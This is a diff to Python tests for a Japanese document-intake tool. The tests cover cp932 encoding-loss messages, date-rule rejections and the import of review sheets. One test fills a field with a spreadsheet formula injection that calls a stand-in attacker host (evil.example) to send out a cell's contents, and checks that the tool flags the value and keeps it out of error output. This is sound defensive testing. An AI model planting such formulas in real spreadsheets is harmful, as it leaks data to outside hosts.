@@ -131,6 +131,13 @@ def test_stdout_gets_the_encoding_and_the_bom(store, pending, tmp_path):
     assert b"cp932: no character changed" not in sjis.stderr  # nothing to say when nothing changed
 
 
+def test_lossy_messages_are_japanese_first(monkeypatch):
+    _, changes = encode("〜👍", "cp932")
+    monkeypatch.setenv("INTAKE_LANG", "ja")
+    assert changes.describe() == "cp932: 1 文字を似た文字に置き換えます (〜→～ ×1); 1 文字を ? に置き換えます (記号・絵文字 ×1)"
+    assert changes.describe("en").startswith("cp932: 1 character(s) changed to a look-alike (〜→～ ×1)")
+
+
 def test_lossy_cp932_exits_non_zero_unless_accepted(store, tmp_path):
     rec = make_record("f7" * 32, flagged={"remarks": "?"}, values=VALUES | {"remarks": "〜👍髙"})
     store.save_file(rec.source.sha256, "fax.tif", [rec])
@@ -310,17 +317,19 @@ def test_cross_field_failures_name_the_rule_not_the_dates(store, pending, tmp_pa
     assert ("resume.date", "rule_failed") in found and ("stop.weekday", "rule_failed") in found
     text = "\n".join(str(p) for p in report.rejected)
     assert "2026-06" not in text and "月" not in text.replace("月火水木金土日", "")
-    assert "rule_failed" in text and "weekday_matches_date" in text and ": after " in text
+    assert "rule_failed" in text and "weekday_matches_date" in text and "the restart must come after the stop" in text
 
 
 def test_cli_rejections_hold_no_typed_value(store, pending, tmp_path):
     sheet, [row] = _exported(store, tmp_path)
+    row["memo"] = "電話で確認済み"  # a column the reviewer added: said, not read
     row["customer_contact.phone"] = TYPED
     row["remarks"] = "=WEBSERVICE(\"http://evil.example/\"&B2)"
     write_rows(sheet, [row])
     r = desk("import-review", str(sheet), "--reviewer", "tanaka", db=store.path)
     err = r.stderr.decode()
     assert r.returncode == 1 and "[invalid_value]" in err and "[formula]" in err
+    assert "not part of the review sheet and were not read: memo" in err and "電話" not in err
     assert "山田" not in err and "1111" not in err and "evil" not in err and "WEBSERVICE" not in err
 
 
